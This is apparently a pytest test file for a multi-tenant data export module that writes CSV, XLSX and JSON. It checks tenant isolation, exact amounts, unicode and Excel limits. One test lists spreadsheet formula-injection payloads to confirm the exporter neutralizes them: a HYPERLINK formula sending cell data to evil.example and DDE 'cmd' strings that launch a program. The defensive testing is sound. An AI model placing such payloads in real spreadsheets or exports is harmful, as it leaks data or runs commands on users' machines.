import csv
import io
import json
import tracemalloc
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from reconciliation.entities import ENTITIES
from reconciliation.exports import (
    FORMATS,
    Export,
    UnknownEntity,
    UnknownFormat,
    entity_names,
    export,
    plan_for,
)
from reconciliation.exports.formats import amount, guarded
from reconciliation.models import Customer, Invoice, InvoiceLine
from tests.reconciliation import shop

FIRST = ["id", "external_id", "active", "source_modified_at"]


def exported(tenant, entity, form="csv", **options):
    stream = io.BytesIO()
    count = export(tenant, entity, form, stream, **options)
    return count, stream.getvalue()


def csv_rows(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def sheet_of(content):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def test_an_unknown_entity_is_refused_with_the_names_there_are(tenant):
    with pytest.raises(UnknownEntity, match=r"“cutsomer”.*customer.*invoice_line"):
        exported(tenant, "cutsomer")


def test_an_unknown_format_is_refused_with_the_names_there_are(tenant):
    with pytest.raises(UnknownFormat, match="csv, xlsx, json"):
        exported(tenant, "customer", "pdf")


def test_another_tenants_records_never_leave(tenant, other_tenant):
    shop.customer(tenant, "Ours")
    shop.customer(other_tenant, "Theirs")
    count, content = exported(tenant, "customer", queryset=Customer.objects.all())
    assert count == 1
    assert [row["name"] for row in csv_rows(content)] == ["Ours"]


def test_another_tenants_invoice_lines_never_leave(tenant, other_tenant):
    shop.line(shop.invoice(other_tenant), description="Theirs")
    shop.line(shop.invoice(tenant), description="Ours")
    assert [row["description"] for row in csv_rows(exported(tenant, "invoice_line")[1])] == ["Ours"]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "＝1+1",  # noqa: RUF001
    ],
)
def test_a_text_that_a_spreadsheet_would_run_is_made_harmless(tenant, text):
    shop.customer(tenant, text)
    (row,) = csv_rows(exported(tenant, "customer")[1])
    assert row["name"] == f"'{text}"


@pytest.mark.parametrize("text", ["+15125550143", "-17", "+3.50", "Smith = Sons", "O'Hara", "", "555-0143"])
def test_phones_and_plain_numbers_stay_usable(text):
    assert guarded(text) == text


def test_a_formula_is_text_in_a_workbook(tenant):
    shop.customer(tenant, "=1+1")
    cell = next(row for row in sheet_of(exported(tenant, "customer", "xlsx")[1]).iter_rows(min_row=2))
    named = [c for c in cell if c.value == "=1+1"]
    assert [c.data_type for c in named] == ["s"]


def test_ids_and_phones_are_text_in_a_workbook_and_amounts_are_numbers(tenant):
    ana = shop.customer(tenant, external_id="00123", balance=Decimal("1234.56"))
    shop.contact(ana, "(512) 555-0143", e164="+15125550143", extension="012")
    headings, values = sheet_of(exported(tenant, "customer", "xlsx")[1]).iter_rows()
    row = {heading.value: cell for heading, cell in zip(headings, values, strict=True)}
    assert (row["external_id"].value, row["external_id"].data_type) == ("00123", "s")
    assert (row["id"].value, row["id"].data_type) == (str(ana.pk), "s")
    assert (row["balance"].value, row["balance"].number_format) == (1234.56, "0.00##")
    headings, values = sheet_of(exported(tenant, "customer_contact", "xlsx")[1]).iter_rows()
    row = {heading.value: cell for heading, cell in zip(headings, values, strict=True)}
    assert (row["e164"].value, row["e164"].data_type) == ("+15125550143", "s")
    assert row["extension"].value == "012"


def test_a_control_character_does_not_break_a_workbook(tenant):
    shop.customer(tenant, "Bell\x07 & Sons")
    sheet = sheet_of(exported(tenant, "customer", "xlsx")[1])
    assert "Bell & Sons" in [cell.value for cell in sheet[2]]


def test_a_workbook_goes_on_to_a_second_sheet(tenant, monkeypatch):
    monkeypatch.setattr("reconciliation.exports.CHUNK", 2)
    monkeypatch.setattr("reconciliation.exports.xlsx.ROWS_PER_SHEET", 4)
    for number in range(7):
        shop.customer(tenant, f"C{number}")
    book = openpyxl.load_workbook(io.BytesIO(exported(tenant, "customer", "xlsx")[1]))
    assert len(book.worksheets) == 2
    assert [sheet["A1"].value for sheet in book] == ["id", "id"]
    rows = [row for sheet in book for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert [row[0] for row in rows] == [
        str(pk) for pk in Customer.objects.order_by("pk").values_list("pk", flat=True)
    ]


@pytest.mark.parametrize("text", ['a & b <c> "d"', " blank around ", "two\nlines", "北京 🛠️", "x" * 300])
def test_a_workbook_keeps_texts_letter_for_letter(tenant, text):
    shop.customer(tenant, text)
    assert text in [cell.value for cell in sheet_of(exported(tenant, "customer", "xlsx")[1])[2]]


def test_a_text_that_excel_would_read_as_an_escape_is_escaped(tenant):
    shop.customer(tenant, "_x0041_")
    with zipfile.ZipFile(io.BytesIO(exported(tenant, "customer", "xlsx")[1])) as book:
        assert b">_x005F_x0041_<" in book.read("xl/worksheets/sheet1.xml")


def test_a_text_too_long_for_excel_is_cut_where_excel_ends(tenant):
    shop.note(tenant, text="x" * 40_000)
    longest = max(len(str(cell.value)) for cell in sheet_of(exported(tenant, "note", "xlsx")[1])[2])
    assert longest == 32_767


def test_a_workbook_begins_to_leave_before_its_last_row_is_read(tenant, monkeypatch):
    monkeypatch.setattr("reconciliation.exports.CHUNK", 1)
    for number in range(3):
        shop.customer(tenant, f"C{number}")
    taken = Export(plan_for("customer"), FORMATS["xlsx"], Customer.objects.all())
    first = next(part for part in taken if part)
    assert first.startswith(b"PK")
    assert taken.rows == 1


def test_every_script_of_the_world_comes_out_as_it_went_in(tenant):
    names = ["Zoë Łukasiewicz", "北京水管", "مؤسسة النور", "🛠️ Fix-It", 'She said "hi", twice\nand left']
    for name in names:
        shop.customer(tenant, name)
    content = exported(tenant, "customer")[1]
    assert content.startswith(b"\xef\xbb\xbf")
    assert [row["name"] for row in csv_rows(content)] == names
    assert [row["name"] for row in json.loads(exported(tenant, "customer", "json")[1])] == names


@pytest.mark.parametrize(
    ("stored", "written"),
    [
        ("0", "0.00"),
        ("12.5", "12.50"),
        ("1234567890.1000", "1234567890.10"),
        ("0.0375", "0.0375"),
        ("-3", "-3.00"),
    ],
)
def test_cents_are_exact(tenant, stored, written):
    shop.invoice(tenant, total=Decimal(stored))
    (row,) = csv_rows(exported(tenant, "invoice")[1])
    (same,) = json.loads(exported(tenant, "invoice", "json")[1])
    assert row["total"] == same["total"] == written
    assert amount(Decimal(stored)) == written


def test_what_is_not_known_is_empty_and_not_zero(tenant):
    shop.invoice(tenant, total=None, paid_at=None)
    (row,) = csv_rows(exported(tenant, "invoice")[1])
    assert (row["total"], row["paid_at"]) == ("", "")
    (row,) = json.loads(exported(tenant, "invoice", "json")[1])
    assert (row["total"], row["paid_at"]) == (None, None)


def test_an_export_of_nothing_is_a_whole_file(tenant):
    assert json.loads(exported(tenant, "customer", "json")[1]) == []
    count, content = exported(tenant, "customer")
    assert count == 0
    assert content.decode("utf-8-sig").startswith("id,external_id,active,source_modified_at,")
    assert sheet_of(exported(tenant, "customer", "xlsx")[1]).max_row == 1


@pytest.mark.parametrize("entity", entity_names())
def test_every_entity_begins_with_the_four_columns_and_runs(tenant, entity):
    header = exported(tenant, entity)[1].decode("utf-8-sig").splitlines()[0].split(",")
    assert header[:4] == FIRST
    assert len(header) == len(set(header))


@pytest.mark.parametrize("entity", list(ENTITIES))
def test_no_field_that_a_mapping_fills_is_left_out(entity):
    names = {column.name for column in plan_for(entity).columns}
    assert set(ENTITIES[entity].fields) <= names
    assert {f"{name}_external_id" for name in ENTITIES[entity].references} <= names


def test_references_are_given_by_their_source_id_and_by_name(tenant):
    ana = shop.customer(tenant, "Ana", external_id="42")
    visit = shop.job(tenant, ana, number="J-7", external_id="700")
    shop.invoice(tenant, ana, job=visit, number="1676", external_id="1679", total=Decimal("99.9"))
    (row,) = csv_rows(exported(tenant, "invoice")[1])
    assert row["external_id"] == "1679"
    assert row["number"] == "1676"
    assert (row["customer_external_id"], row["customer"]) == ("42", "Ana")
    assert (row["job_external_id"], row["job"]) == ("700", "J-7")
    assert row["currency"] == "USD"
    assert row["source_modified_at"] == "2026-03-01T12:00:00Z"
    assert row["active"] == "true"


def test_a_merged_customer_is_there_inactive_and_says_where_it_went(tenant):
    kept = shop.customer(tenant, "Kept", external_id="1")
    shop.customer(tenant, "Gone", external_id="2", active=False, merged_into=kept)
    rows = {row["name"]: row for row in csv_rows(exported(tenant, "customer")[1])}
    assert rows["Gone"]["active"] == "false"
    assert rows["Gone"]["merged_into_external_id"] == "1"


def test_contacts_of_customers_and_of_locations_are_exports_of_their_own(tenant):
    house = shop.location(tenant)
    shop.contact(house.customer, "512-555-0143")
    shop.location_contact(house, "512-555-0199")
    assert [row["value"] for row in csv_rows(exported(tenant, "customer_contact")[1])] == ["512-555-0143"]
    assert [row["value"] for row in csv_rows(exported(tenant, "location_contact")[1])] == ["512-555-0199"]


def test_reference_lists_do_not_mix(tenant):
    shop.item(tenant, "technician", name="Tom")
    shop.item(tenant, "campaign", name="Radio")
    (row,) = csv_rows(exported(tenant, "technician")[1])
    assert (row["name"], row["kind"]) == ("Tom", "technician")


def test_a_line_carries_its_invoice(tenant):
    bill = shop.invoice(tenant, number="1676", external_id="1679", active=False)
    shop.line(bill, description="Capacitor", quantity=Decimal(2), unit_price=Decimal("12.345"))
    (row,) = csv_rows(exported(tenant, "invoice_line")[1])
    assert (row["invoice_external_id"], row["invoice"], row["active"]) == ("1679", "1676", "false")
    assert row["unit_price"] == "12.345"


def test_a_split_names_the_payment_and_the_invoice(tenant):
    bill = shop.invoice(tenant, number="1676", external_id="1679")
    paid = shop.payment(tenant, number="P1", external_id="88", total=Decimal(10))
    shop.split(paid, invoice=bill, amount=Decimal(10))
    (row,) = csv_rows(exported(tenant, "payment_split")[1])
    assert (row["payment_external_id"], row["invoice_external_id"]) == ("88", "1679")
    assert row["amount"] == "10.00"


def test_rows_come_once_each_across_chunks(tenant, monkeypatch):
    monkeypatch.setattr("reconciliation.exports.CHUNK", 3)
    made = [shop.customer(tenant, f"C{number}").pk for number in range(7)]
    count, content = exported(tenant, "customer")
    assert count == 7
    assert [int(row["id"]) for row in csv_rows(content)] == made


def test_the_number_of_queries_grows_with_chunks_and_not_with_rows(tenant, django_assert_num_queries):
    for _ in range(10):
        shop.job(tenant)
    with django_assert_num_queries(2):
        exported(tenant, "job")


class Sink:
    """A stream that forgets."""

    size = 0

    def write(self, part):
        self.size += len(part)


def peak_of(tenant, form, rows):
    """Bytes held at once while `rows` invoice lines are exported."""
    sink = Sink()
    tracemalloc.start()
    try:
        assert export(tenant, "invoice_line", form, sink) == rows
        return sink.size, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(
    ("form", "few", "many"), [("csv", 2_500, 20_000), ("json", 1_500, 9_000), ("xlsx", 1_500, 9_000)]
)
def test_memory_does_not_grow_with_the_number_of_records(tenant, form, few, many):
    bill = shop.invoice(tenant)

    def add(count):
        InvoiceLine.objects.bulk_create(
            (InvoiceLine(invoice=bill, description="x" * 100) for _ in range(count)), batch_size=2000
        )

    add(few)
    small, little = peak_of(tenant, form, few)
    add(many - few)
    large, peak = peak_of(tenant, form, many)
    assert large > 5 * small
    assert peak < 1.2 * little + 1_000_000, f"{peak:,} bytes at once, {little:,} for the small file"


def test_a_filter_narrows_an_export(tenant):
    shop.invoice(tenant, number="1", active=False)
    shop.invoice(tenant, number="2")
    count, content = exported(tenant, "invoice", queryset=Invoice.objects.filter(active=True))
    assert (count, csv_rows(content)[0]["number"]) == (1, "2")
